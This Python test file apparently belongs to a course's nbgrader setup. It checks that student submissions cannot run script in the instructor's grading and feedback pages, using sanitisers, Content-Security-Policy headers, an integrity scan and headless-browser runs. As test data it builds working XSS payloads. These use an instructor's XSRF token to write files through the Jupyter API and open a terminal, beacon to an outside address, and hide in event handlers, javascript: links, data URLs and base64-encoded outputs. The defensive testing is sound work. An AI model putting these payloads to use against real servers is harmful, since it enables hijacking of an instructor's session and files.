"""A submission cannot script the instructor's pages: what the formgrader and the feedback pages
show of a submission's markdown and outputs is cleaned of script, frames, plugins, event handlers
and script URLs (``helpers.grading.sanitize``), the formgrader's submission pages are served
under a Content-Security-Policy that lets only nbgrader's own scripts run, feedback pages under
one that runs none, and the integrity scan names such content as a finding.

The end-to-end tests grade one real submission carrying every payload, start a real Jupyter
server with the instructor's settings (``hub/classhub.py``, role "instructor") on its course root,
and open its formgrader page, and its feedback page from file://, in headless Chromium: nothing
may run (no request but the page's own, no dialog, no file written, no terminal), and the grade box
still saves a score. Skipped without /usr/bin/chromium unless REQUIRE_BROWSER=1."""

import base64
import hashlib
import json
import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from xml.etree import ElementTree

import classhub
import nbformat
import pytest
from conftest import ROOT, free_port, launch_chromium, require_chromium, server_api, wait_for_formgrader
from nbconvert.exporters import HTMLExporter
from nbgrader.converters import GenerateFeedback
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from helpers.grading import integrity
from helpers.grading.integrity import SEVERITY, active_content, scan_notebook
from helpers.grading.sanitize import (
    FEEDBACK_POLICY,
    clean_html,
    clean_svg,
    sanitize_output,
    submission_policy,
)
from helpers.grading.settings import configure

LESSON = "02_attention_lookup"
RELEASED = ROOT / "notebooks" / LESSON / f"{LESSON}.ipynb"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
OUTSIDE = "198.51.100.7"  # a documentation address: a request to it is a payload leaking out


def _js(name: str, folder: str = "") -> str:
    """What a payload does as the instructor: write a file into the course root, open a terminal,
    send a request out and show a dialog. No whitespace: it must survive in an unquoted attribute."""
    return ("x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1];"
            "h={'X-XSRFToken':x,'Content-Type':'application/json'};"
            f"fetch('/api/contents/{folder}pwned_{name}.txt',{{method:'PUT',headers:h,"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}});"
            "fetch('/api/terminals',{method:'POST',headers:h});"
            f"document.createElement('img').src='http://{OUTSIDE}/{name}';alert('{name}')")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def markdown_payloads(folder: str = "") -> dict[str, str]:
    """Each kind of active content a markdown answer can hold, by name."""
    page = f"<script>{_js('md_object')}</script>"  # a whole page in a data: URL
    return {
        "iframe srcdoc": f'<iframe srcdoc="<script>{_js("md_iframe", folder)}</script>"></iframe>',
        "img onerror": f'<img src=x onerror="{_js("md_img", folder)}">',
        "svg script": f"<svg><script>{_js('md_svg', folder)}</script></svg>",
        "javascript link": f'<a id="jslink" href="javascript:{_js("md_link", folder)}">more</a>',
        "object data": f'<object data="data:text/html;base64,{_b64(page)}"></object>',
        "embed": f'<embed src="data:text/html;base64,{_b64("<script>alert(1)</script>")}">',
    }


def output_payloads(folder: str = "") -> dict[str, dict]:
    """Each kind of active output a graded cell can display, by name: (data, metadata)."""
    return {
        "text/html script": ({"text/html": f"<b>ok</b><script>{_js('out_html', folder)}</script>",
                              "text/plain": "ok"}, {}),
        "text/html handler": ({"text/html": f"<img src=x onerror=\"{_js('out_img', folder)}\">"}, {}),
        "svg script": ({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">'
                                         f"<script>{_js('out_svg', folder)}</script>"
                                         '<rect width="4" height="4" onload="alert(2)"/></svg>'}, {}),
        "javascript": ({"application/javascript": _js("out_js", folder)}, {}),
        "markdown": ({"text/markdown": f"*md* <img src=x onerror=\"{_js('out_md', folder)}\">"}, {}),
        "png size": ({"image/png": PNG, "text/plain": "<Figure>"},
                     {"image/png": {"width": "1 onerror=" + _js("out_png", folder)}}),
    }


HONEST_MARKDOWN = ("## Why rows\n\nEach query's weights sum to **one** over the keys: $\\sum_j a_{ij} = 1$ "
                   "and $a < b$.\n\n| query | sum |\n|---|---|\n| 1 | 1.0 |\n\n> a quote\n\n"
                   "`<script>` in code is text.\n\n```python\nx = np.ones(3)\n```\n")


def _notebook(markdown: str, outputs: list[dict]) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    answer = nbformat.v4.new_markdown_cell(markdown)
    answer.metadata["nbgrader"] = {"solution": True, "grade": True, "grade_id": "why_rows", "points": 2,
                                   "schema_version": 3, "locked": False, "score": 0, "comment": None}
    code = nbformat.v4.new_code_cell("softmax(x)", outputs=outputs)
    code.metadata["nbgrader"] = {"solution": True, "grade": False, "grade_id": "softmax", "locked": False,
                                 "schema_version": 3}
    nb.cells = [answer, code]
    return nb


def _outputs(payloads: dict[str, tuple]) -> list[dict]:
    return [nbformat.v4.new_output("display_data", data=data, metadata=meta)
            for data, meta in payloads.values()]


def _render(nb: nbformat.NotebookNode, template: str, tmp_path: Path) -> str:
    """The notebook as the formgrader (``formgrade``) or feedback (``feedback``) renders it with
    the course's nbgrader settings; only what follows the page's own header and navigation."""
    c = configure(Config(), tmp_path / "course")
    if template == "formgrade":  # as nbgrader's formgrader extension builds its exporter
        c.HTMLExporter.template_name = template
        c.HTMLExporter.extra_template_basedirs = [handlers.template_path]
        exporter = HTMLExporter(config=c)
    else:  # as `nbgrader generate_feedback` does
        feedback = GenerateFeedback(config=c)
        exporter = feedback.exporter_class(config=feedback.config)
    resources = {"base_url": "", "submission_id": "s1", "index": 0, "total": 1, "notebook_id": LESSON,
                 "assignment_id": LESSON, "student": "mallory", "notebook_path": "x",
                 "nbgrader": {"notebook": LESSON, "student": "mallory", "assignment": LESSON,
                              "score": 0, "max_score": 2, "late_penalty": 0}}
    page, _ = exporter.from_notebook_node(nb, resources=resources)
    if template == "feedback":
        assert page.index(FEEDBACK_POLICY) < page.index("<script"), "the policy comes before any script"
    return page[page.index('id="notebook-container"'):]


# ------------------------------------------------------------------ (a) the sanitiser


@pytest.mark.parametrize("name", list(markdown_payloads()))
def test_markdown_payloads_are_shown_as_text(name):
    payload = markdown_payloads()[name]
    assert active_content(payload), f"the payload {name} must be active to begin with"
    cleaned = clean_html(payload)
    assert active_content(cleaned) == [], cleaned


@pytest.mark.parametrize("name", list(output_payloads()))
def test_output_payloads_are_cleaned_or_dropped(name):
    data, meta = output_payloads()[name]
    out = sanitize_output(nbformat.v4.new_output("display_data", data=dict(data), metadata=dict(meta)))
    assert "application/javascript" not in out["data"]
    for kind in ("text/html", "image/svg+xml"):
        if kind in out["data"]:
            assert active_content(out["data"][kind]) == [], out["data"][kind]
    assert all("onerror" not in str(v) for m in out["metadata"].values() for v in m.values())
    if name == "javascript":
        assert "not shown" in out["data"]["text/plain"]
    if name == "png size":
        assert out["data"]["image/png"] == PNG  # the image itself is kept


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_rendered_pages_hold_no_active_content_and_keep_the_lesson(template, tmp_path):
    markdown = HONEST_MARKDOWN + "\n\n" + "\n\n".join(markdown_payloads().values())
    honest = [nbformat.v4.new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"},
                                     metadata={"image/png": {"width": 320}}),
              nbformat.v4.new_output("execute_result", data={"text/plain": "array([0.5, 0.5])"},
                                     execution_count=1)]
    body = _render(_notebook(markdown, honest + _outputs(output_payloads())), template, tmp_path)
    assert active_content(body) == [], active_content(body)
    for gone in ("<script", "<iframe", "<object", "<embed", "<svg", 'href="javascript'):
        assert gone not in body.lower()
    # the student's attempt is shown to the instructor as text
    assert "&lt;iframe srcdoc=" in body
    # ordinary markdown, math, tables, code and images stay
    assert "<h2" in body and "<strong>one</strong>" in body and "<table>" in body and "<blockquote>" in body
    assert "$\\sum_j a_{ij} = 1$" in body and "$a &lt; b$" in body
    assert "<code>&lt;script&gt;</code>" in body
    assert f'src="data:image/png;base64,{PNG}"' in body and 'width="320"' in body
    assert "array([0.5, 0.5])" in body and 'class="highlight' in body


def test_a_matplotlib_svg_stays_a_picture():
    import io

    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([0, 1, 2], [2, 0, 1], marker="o")
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    cleaned = clean_svg(buf.getvalue())
    tree = ElementTree.fromstring(cleaned)  # still an SVG document a browser can draw
    assert tree.tag.endswith("svg") and len(list(tree.iter())) > 20
    assert "<path" in cleaned and "<use" in cleaned


def test_feedback_pages_carry_a_policy_that_runs_nothing(tmp_path):
    from helpers.grading.sanitize import FeedbackExporter, with_policy

    page = with_policy("<html><head><title>x</title></head><body></body></html>")
    assert page.index(FEEDBACK_POLICY) < page.index("<title>")
    assert with_policy(page) == page
    assert "script-src" not in FEEDBACK_POLICY and "default-src 'none'" in FEEDBACK_POLICY
    c = configure(Config(), tmp_path / "course")
    assert GenerateFeedback(config=c).exporter_class is FeedbackExporter


def test_the_formgrader_policy_allows_only_the_pages_own_inline_script():
    page = ('<html><head><script>var a = 1;</script><script src="/x.js"></script></head><body>'
            '<span onclick="toggle(true);"></span><div id="notebook-container">'
            "<script>alert(1)</script><img onerror=\"alert(2)\"></div></body></html>")
    policy = submission_policy(page)

    def digest(text):
        return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"

    assert digest("var a = 1;") in policy and digest("toggle(true);") in policy
    assert digest("alert(1)") not in policy and digest("alert(2)") not in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "object-src 'none'" in policy and "frame-src 'none'" in policy


def test_the_instructors_settings_load_the_policy_beside_the_formgrader():
    servers = {role: classhub.role_settings(role)["jupyter_server_config.json"]["ServerApp"]
               ["jpserver_extensions"] for role in ("learner", "student", "instructor")}
    assert servers["instructor"][classhub.PAGE_POLICY_SERVER] is True
    assert not servers["learner"].get(classhub.PAGE_POLICY_SERVER)


# ------------------------------------------------------------------ (b) the integrity scan


def _cell(nb: nbformat.NotebookNode, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _answered(markdown: str) -> nbformat.NotebookNode:
    """The released notebook with ``markdown`` as the answer of why_rows."""
    nb = nbformat.read(RELEASED, as_version=4)
    _cell(nb, "why_rows").source = markdown
    return nb


@pytest.mark.parametrize("name", list(markdown_payloads()))
def test_the_scan_names_active_content_in_a_markdown_answer(name):
    findings = scan_notebook(_answered("Rows sum to one.\n\n" + markdown_payloads()[name]), RELEASED)
    hits = [f for f in findings if f.cell == "why_rows" and f.kind == "javascript"]
    assert hits and hits[0].severity == SEVERITY["javascript"] == "tamper", integrity.summarise(findings)
    assert hits[0].detail.startswith("active content in a markdown answer: <"), hits[0].detail
    assert "active content in a markdown answer" in integrity.summarise(findings)
    assert "grader's browser" in integrity.explain(findings)


def test_honest_markdown_is_no_finding():
    assert scan_notebook(_answered(HONEST_MARKDOWN), RELEASED) == []


@pytest.mark.parametrize("name", list(output_payloads()))
def test_the_scan_names_active_content_displayed_at_grading_time(name):
    graded = _answered("Rows sum to one.")
    _cell(graded, "softmax").outputs = _outputs({name: output_payloads()[name]})
    findings = scan_notebook(_answered("Rows sum to one."), RELEASED, graded=graded)
    hits = [f for f in findings if f.cell == "softmax" and f.kind == "javascript"]
    assert hits and hits[0].detail.startswith("active content in an output displayed at grading time"), \
        integrity.summarise(findings)
    assert integrity.is_tampering(findings)


def test_active_content_in_a_saved_output_is_reviewed():
    nb = _answered("Rows sum to one.")
    cell = _cell(nb, "softmax")
    cell.outputs = _outputs({"svg": output_payloads()["svg script"]})
    findings = scan_notebook(nb, RELEASED)
    assert [(f.cell, f.kind, f.severity) for f in findings] == [("softmax", "script-output", "review")]
    assert "<script>" in findings[0].detail


def test_a_string_holding_an_object_tag_is_flagged():
    nb = _answered("Rows sum to one.")
    cell = _cell(nb, "softmax")
    cell.source += "\nfrom IPython.display import HTML\nHTML('<object data=\"data:text/html,x\"></object>')"
    findings = scan_notebook(nb, RELEASED)
    assert any(f.kind == "javascript" and "active content" in f.detail for f in findings), \
        integrity.summarise(findings)


# ------------------------------------------------------------------ (c, d) in a real browser


TOKEN = "active-content-test"
JS_LINK = "a:text-is('more')"  # the javascript: link of the markdown payloads, as the page shows it


def _env(root: Path, config: Path) -> dict:
    return {**os.environ, "ATTENTION_COURSE_ROOT": str(root), "JUPYTER_CONFIG_PATH": str(config),
            "JUPYTER_CONFIG_DIR": str(config.parent / "user-config"),
            "JUPYTER_DATA_DIR": str(config.parent / "data"),
            "JUPYTER_RUNTIME_DIR": str(config.parent / "runtime"),
            "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}


def _payload_code(folder: str) -> str:
    """A solution cell's extra lines that display every output payload, hidden in base64."""
    lines = ["import base64 as _b", "import json as _j", "from IPython.display import display as _d"]
    for data, meta in output_payloads(folder).values():
        packed = _b64(json.dumps({"data": data, "metadata": meta}))
        lines.append(f"_p = _j.loads(_b.b64decode('{packed}').decode())")
        lines.append("_d(_p['data'], raw=True, metadata=_p['metadata'])")
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def graded(tmp_path_factory, built_solutions):
    """One autograded submission carrying every payload, its course root and server root."""
    require_chromium()
    from helpers.grading.autograde import fill_notebook, grade_class, solution_answers

    tmp = tmp_path_factory.mktemp("active")
    root, subs = tmp / "course", tmp / "downloads"
    server_root = Path(os.path.commonpath([ROOT, root]))
    folder = str(root.relative_to(server_root)) + "/"
    full = solution_answers(LESSON)
    markdown = full["why_rows"] + "\n\n" + "\n\n".join(markdown_payloads(folder).values())
    nb = fill_notebook(LESSON, {**full, "why_rows": markdown,
                                "softmax": full["softmax"] + "\n" + _payload_code(folder)})
    # and one whose answers look clean: the script comes only from what its code displays
    decoder = fill_notebook(LESSON, {**full, "softmax": full["softmax"] + "\n" + _payload_code(folder)})
    for student, notebook in (("mallory", nb), ("decoder", decoder)):
        path = subs / student / LESSON / f"{LESSON}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(notebook, path)
    report = grade_class(LESSON, subs, root, workers=1, timeout=90)
    assert set(report.graded) == {"mallory", "decoder"}, report
    return root, server_root, tmp


def test_script_displayed_at_grading_time_is_held_for_review(graded):
    """The static scan cannot see HTML decoded from base64; the scan of what the code displayed
    when it was graded does, and the submission waits for the instructor."""
    root = graded[0]
    static = scan_notebook(root / "submitted" / "decoder" / LESSON / f"{LESSON}.ipynb", RELEASED)
    assert not integrity.is_tampering(static), integrity.summarise(static)
    from helpers.grading import records

    with records.gradebook(root) as gb:
        assert records.is_held(gb, LESSON, "decoder") and records.total(gb, LESSON, "decoder") == 0
        nb = gb.find_submission_notebook(LESSON, LESSON, "decoder")
        notes = "\n".join(c.auto_comment or "" for c in nb.comments)  # what the formgrader shows
    assert "active content in an output displayed at grading time: <script>" in notes, notes
    assert "grader's browser" in notes


@pytest.fixture(scope="module")
def formgrader(graded):
    """A real Jupyter server with the instructor's settings on the graded course root."""
    root, server_root, tmp = graded
    config = tmp / "roles" / "instructor"
    classhub.write_role_settings(config, "instructor")
    port = free_port()
    log_path = tmp / "server.log"
    with open(log_path, "w") as log:
        server = subprocess.Popen(
            [str(Path(sys.executable).parent / "jupyter"), "server", f"--port={port}", "--ip=127.0.0.1",
             "--no-browser", "--allow-root", f"--IdentityProvider.token={TOKEN}",
             f"--ServerApp.root_dir={server_root}"],
            cwd=ROOT, env=_env(root, config), stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    call = server_api(port, TOKEN)
    wait_for_formgrader(call, server, lambda: log_path.read_text()[-3000:])
    yield base, call
    server.terminate()
    server.wait(20)


def _watch(page, base: str | None):
    """Record every request the page makes and every dialog; abort requests to other hosts."""
    seen = {"requests": [], "dialogs": []}

    def route(r):
        seen["requests"].append((r.request.method, r.request.url))
        if base is not None and r.request.url.startswith(base):
            r.continue_()
        elif base is None and r.request.url.startswith(("file:", "data:")):
            r.continue_()
        else:
            r.abort()

    page.route("**/*", route)
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    return seen


def _until(page, predicate: str, seconds: float = 30) -> None:
    """Wait until ``predicate`` holds in the page (Playwright's own waiting would evaluate a string,
    which the page's policy forbids)."""
    deadline = time.monotonic() + seconds
    while not page.evaluate(predicate):
        assert time.monotonic() < deadline, f"never true in the page: {predicate}"
        page.wait_for_timeout(200)


def _pwned(root: Path) -> list[Path]:
    return sorted(root.rglob("pwned_*"))


def _nothing_ran(seen: dict, root: Path, allowed: tuple[str, ...]) -> None:
    """No payload acted: no request but the page's own, no dialog, no file written."""
    made = [(m, u) for m, u in seen["requests"] if not u.startswith(allowed)
            or "/api/contents" in u or "/api/terminals" in u]
    assert made == [], f"requests the payloads made: {made}"
    assert seen["dialogs"] == [], f"dialogs the payloads opened: {seen['dialogs']}"
    assert _pwned(root) == [] and _pwned(Path(ROOT)) == [], _pwned(root)


def test_the_formgrader_page_runs_no_payload_and_still_grades(graded, formgrader, tmp_path):
    from playwright.sync_api import sync_playwright

    root, _, _ = graded
    base, call = formgrader
    sub = next(n for n in call(f"/formgrader/api/submitted_notebooks/{LESSON}/{LESSON}")
               if n["student"] == "mallory")
    url = f"{base}/formgrader/submissions/{sub['id']}/"
    with sync_playwright() as pw:
        browser = launch_chromium(pw, tmp_path / "profile")
        page = browser.new_page()
        seen = _watch(page, base)
        page.goto(f"{base}/login")  # as an instructor logs in: a cookie, and nbgrader's XSRF token
        page.fill("#password_input", TOKEN)
        page.click("#login_submit")
        page.wait_for_load_state()
        page.goto(url)
        page.wait_for_selector("input.score#why_rows", timeout=30_000)
        page.wait_for_timeout(3000)  # time for any payload to act
        page.click(JS_LINK)  # a javascript: link does nothing either
        page.wait_for_timeout(500)
        _nothing_ran(seen, root, (base,))
        assert call("/api/terminals") == [], "a payload opened a terminal"
        # nbgrader's own script ran: it loaded the grades, and MathJax (served locally) typeset
        _until(page, "() => formgrader.grades.loaded && formgrader.comments.loaded")
        _until(page, "() => MathJax.loaded === true")
        # nbgrader's own inline handler still works: show the student's name
        page.click("span.glyphicon-eye-open.name-hidden")
        assert page.locator("a.name-shown").first.is_visible()
        # the grade box accepts a score and saves it
        page.fill("input.score#why_rows", "1.5")
        with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url and r.request.method == "PUT"):
            page.keyboard.press("Tab")
        page.wait_for_timeout(500)
        browser.close()
    grades = {g["name"]: g for g in call(f"/formgrader/api/grades?submission_id={sub['id']}")}
    assert grades["why_rows"]["manual_score"] == 1.5
    _nothing_ran(seen, root, (base,))
    request = urllib.request.Request(url, headers={"Authorization": f"token {TOKEN}"})
    with urllib.request.urlopen(request) as r:
        policy, html = r.headers["Content-Security-Policy"], r.read().decode()
    assert "script-src 'self' 'sha256-" in policy and "'unsafe-inline'" not in policy.split(";")[1], policy
    assert "HIDDEN TESTS" in html, "the instructor still sees the hidden tests"


def test_the_feedback_page_runs_no_payload(graded, tmp_path):
    from playwright.sync_api import sync_playwright

    root, _, _ = graded
    page_path = root / "feedback" / "mallory" / LESSON / f"{LESSON}.html"
    with sync_playwright() as pw:
        browser = launch_chromium(pw, tmp_path / "profile")
        page = browser.new_page()
        seen = _watch(page, None)
        page.goto(page_path.as_uri())
        page.wait_for_timeout(2000)
        page.click(JS_LINK)
        page.wait_for_timeout(500)
        shown = page.inner_text("body")
        browser.close()
    _nothing_ran(seen, root, ("file:", "data:"))
    assert "Score" in shown and "&lt;iframe" not in shown and "<iframe srcdoc=" in shown  # shown as text
    text = page_path.read_text()
    assert f'content="{FEEDBACK_POLICY}"' in text
    assert active_content(text[text.index("<body"):]) == []
